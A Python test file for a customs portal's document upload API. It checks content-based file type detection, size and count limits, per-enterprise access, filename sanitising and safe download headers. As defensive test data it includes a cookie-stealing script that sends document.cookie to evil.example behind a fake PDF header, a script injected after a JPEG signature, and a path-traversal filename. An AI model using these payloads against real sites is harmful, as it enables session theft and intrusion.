"""Documents: checked by content, limited in size and number, never served to other enterprises."""
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter

from customs_portal.audit.models import AuditEvent
from declarations.models import Declaration, Document
from declarations.services.review import declaration_decide
from tests.factories import PDF, jpeg_bytes, png_bytes, registered
from tests.payloads import plain_import_body

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    return tmp_path


@pytest.fixture
def declaration(trader1):
    return registered(trader1, plain_import_body())


def upload(client, declaration, name, content, kind="invoice", **extra):
    return client.post(f"/api/v1/declarations/{declaration.pk}/documents/",
                       {"kind": kind, "file": SimpleUploadedFile(name, content), **extra}, format="multipart")


def test_upload_and_download(trader1, officer, api_client_for, declaration, media):
    response = upload(api_client_for(trader1), declaration, "../../etc/hóa đơn <1>.pdf", PDF)
    assert response.status_code == 201, response.json()
    body = response.json()
    assert body["name"] == "hóa_đơn_1.pdf"
    assert body["content_type"] == "application/pdf" and body["size"] == len(PDF)
    document = Document.objects.get(pk=body["id"])
    assert document.file.path.startswith(str(media)) and document.file.name.endswith(".pdf")
    assert "etc" not in document.file.name
    download = api_client_for(officer).get(f"/api/v1/declarations/{declaration.pk}/documents/{document.pk}/download/")
    assert download.status_code == 200 and b"".join(download.streaming_content) == PDF
    assert AuditEvent.objects.filter(declaration=declaration, action="document_upload").count() == 1


def test_png_accepted_and_type_checked_by_content(trader1, api_client_for, declaration):
    client = api_client_for(trader1)
    assert upload(client, declaration, "scan.png", png_bytes(), kind="packing_list").status_code == 201
    disguised = upload(client, declaration, "invoice.pdf", b"MZ\x90\x00 this is an executable")
    assert disguised.status_code == 400 and "checked by content" in disguised.json()["file"][0]
    broken = upload(client, declaration, "scan.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 50)
    assert broken.status_code == 400
    truncated = upload(client, declaration, "x.pdf", b"%PDF-1.4 no end")
    assert truncated.status_code == 400
    assert Document.objects.filter(declaration=declaration).count() == 1


def test_size_and_count_limits(trader1, api_client_for, declaration, settings, media):
    client = api_client_for(trader1)
    settings.DOCUMENT_MAX_BYTES = 100
    too_big = upload(client, declaration, "big.pdf", PDF + b" " * 200)
    assert too_big.status_code == 400 and "limit" in too_big.json()["file"][0]
    settings.DOCUMENT_MAX_BYTES = 10_000
    settings.DOCUMENT_MAX_PER_DECLARATION = 2
    assert upload(client, declaration, "a.pdf", PDF).status_code == 201
    assert upload(client, declaration, "b.pdf", PDF).status_code == 201
    third = upload(client, declaration, "c.pdf", PDF)
    assert third.status_code == 400 and "at most 2" in third.json()["file"][0]
    assert len(list(media.rglob("*.pdf"))) == 2
    assert upload(client, declaration, "d.pdf", PDF, kind="selfie").status_code == 400


@pytest.mark.parametrize("role, expected", [("trader2", 404), ("officer", 403), ("risk_admin", 403), ("gate_user", 403)])
def test_who_may_upload(request, api_client_for, declaration, role, expected, media):
    response = upload(api_client_for(request.getfixturevalue(role)), declaration, "a.pdf", PDF)
    assert response.status_code == expected
    assert not Document.objects.exists() and not list(media.rglob("*.pdf"))


def test_other_enterprise_cannot_list_or_download(trader1, trader2, api_client_for, declaration):
    document_id = upload(api_client_for(trader1), declaration, "a.pdf", PDF).json()["id"]
    other = api_client_for(trader2)
    assert other.get(f"/api/v1/declarations/{declaration.pk}/documents/").status_code == 404
    assert other.get(f"/api/v1/declarations/{declaration.pk}/documents/{document_id}/download/").status_code == 404
    assert api_client_for(None).get(f"/api/v1/declarations/{declaration.pk}/documents/{document_id}/download/").status_code == 401


def test_answering_a_document_request(trader1, officer, api_client_for, declaration):
    Declaration.objects.filter(pk=declaration.pk).update(status="under_review", channel="yellow")
    event = declaration_decide(declaration_id=declaration.pk, officer=officer, action="request_documents",
                               note="Please attach the sales contract")
    request_id = event.data["document_request"]
    requests = api_client_for(trader1).get(f"/api/v1/declarations/{declaration.pk}/document-requests/").json()
    assert requests[0]["note"] == "Please attach the sales contract" and requests[0]["answered_at"] is None
    response = upload(api_client_for(trader1), declaration, "contract.pdf", PDF, kind="contract", request=request_id)
    assert response.status_code == 201 and response.json()["answers"] == request_id
    supplied = AuditEvent.objects.get(declaration=declaration, action="documents_supplied")
    assert (supplied.from_status, supplied.to_status, supplied.actor) == ("under_review", "under_review", trader1)
    assert api_client_for(trader1).get(f"/api/v1/declarations/{declaration.pk}/document-requests/").json()[0]["answered_at"]


def test_closed_declarations_take_no_documents(trader1, api_client_for, declaration):
    Declaration.objects.filter(pk=declaration.pk).update(status="cancelled")
    assert upload(api_client_for(trader1), declaration, "a.pdf", PDF).status_code == 409


# --- What a file is, not what it is called (issue 12, finding 10) ---------------------------------

EVIL_HTML = b"%PDF-1.7\n<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n%%EOF\n"


@pytest.mark.parametrize("name, content", [
    ("evil.html", EVIL_HTML),  # starts with %PDF- and ends with %%EOF: it passed
    ("fake.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"),  # no cross-reference table, no page
    ("truncated.pdf", PDF[: len(PDF) // 2]),
    ("no-pages.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
                     b"trailer<</Root 1 0 R>>\n%%EOF\n"),
], ids=["evil.html", "fake.pdf", "truncated.pdf", "no-pages.pdf"])
def test_a_file_that_only_starts_like_a_pdf_is_refused(trader1, api_client_for, declaration, media, name, content):
    response = upload(api_client_for(trader1), declaration, name, content)
    assert response.status_code == 400
    assert response.json() == {"file": ["The PDF is incomplete or damaged."]}
    assert not Document.objects.exists() and not list(media.rglob("*.*"))


@pytest.mark.parametrize("name, content", [
    ("scan.png", png_bytes()[:40]),  # the header and the start of the first chunk
    ("photo.jpg", jpeg_bytes()[:-40]),  # the scan data cut short
    ("photo.jpg", b"\xff\xd8\xff\xe0" + b"<script>alert(1)</script>" * 4),
    ("scan.png", b"\x89PNG\r\n\x1a\n" + jpeg_bytes()),  # a PNG signature over another format
], ids=["truncated png", "truncated jpeg", "script after a jpeg signature", "jpeg behind a png signature"])
def test_an_image_must_decode_whole(trader1, api_client_for, declaration, media, name, content):
    response = upload(api_client_for(trader1), declaration, name, content)
    assert response.status_code == 400
    assert response.json() == {"file": ["The image is damaged or not really an image."]}
    assert not Document.objects.exists()


@pytest.mark.parametrize("name, content, stored_as, content_type", [
    ("evil.html", PDF, "evil.pdf", "application/pdf"),
    ("invoice.PDF", PDF, "invoice.PDF", "application/pdf"),
    ("scan.svg", png_bytes(), "scan.png", "image/png"),
    ("photo.jpeg", jpeg_bytes(), "photo.jpeg", "image/jpeg"),
    ("photo", jpeg_bytes(), "photo.jpg", "image/jpeg"),
    ("x" * 300 + ".html", PDF, "x" * 196 + ".pdf", "application/pdf"),
], ids=["evil.html", "invoice.PDF", "scan.svg", "photo.jpeg", "photo", "a long name"])
def test_a_document_is_named_and_stored_with_the_extension_of_its_type(
        trader1, officer, api_client_for, declaration, media, name, content, stored_as, content_type):
    body = upload(api_client_for(trader1), declaration, name, content).json()
    assert (body["name"], body["content_type"]) == (stored_as, content_type)
    document = Document.objects.get(pk=body["id"])
    extension = {"application/pdf": ".pdf", "image/png": ".png", "image/jpeg": ".jpg"}[content_type]
    stored = media / document.file.name
    assert stored.parent == media / "declarations" / str(declaration.pk)
    assert stored.suffix == extension and len(stored.stem) == 32  # a random name of 32 hex digits
    assert stored.read_bytes() == content
    download = api_client_for(officer).get(f"/api/v1/declarations/{declaration.pk}/documents/{document.pk}/download/")
    assert download["Content-Type"] == content_type
    assert download["Content-Disposition"] == f'attachment; filename="{stored_as}"'
    assert download["X-Content-Type-Options"] == "nosniff"


def test_a_document_stored_before_keeps_no_dangerous_extension_on_download(trader1, officer, api_client_for, client,
                                                                           declaration):
    """A row written before names were given the detected extension (evil.html) downloads as evil.pdf."""
    document_id = upload(api_client_for(trader1), declaration, "a.pdf", PDF).json()["id"]
    Document.objects.filter(pk=document_id).update(original_name="evil.html")
    client.force_login(officer)
    download = client.get(f"/declarations/{declaration.pk}/documents/{document_id}/")
    assert download.status_code == 200
    assert download["Content-Disposition"] == 'attachment; filename="evil.pdf"'
    assert (download["Content-Type"], download["X-Content-Type-Options"]) == ("application/pdf", "nosniff")



def test_a_pdf_locked_by_a_password_is_refused_with_the_reason(trader1, api_client_for, declaration):
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    response = upload(api_client_for(trader1), declaration, "locked.pdf", buffer.getvalue())
    assert response.status_code == 400
    assert response.json() == {"file": ["The PDF is protected by a password: upload it without one."]}
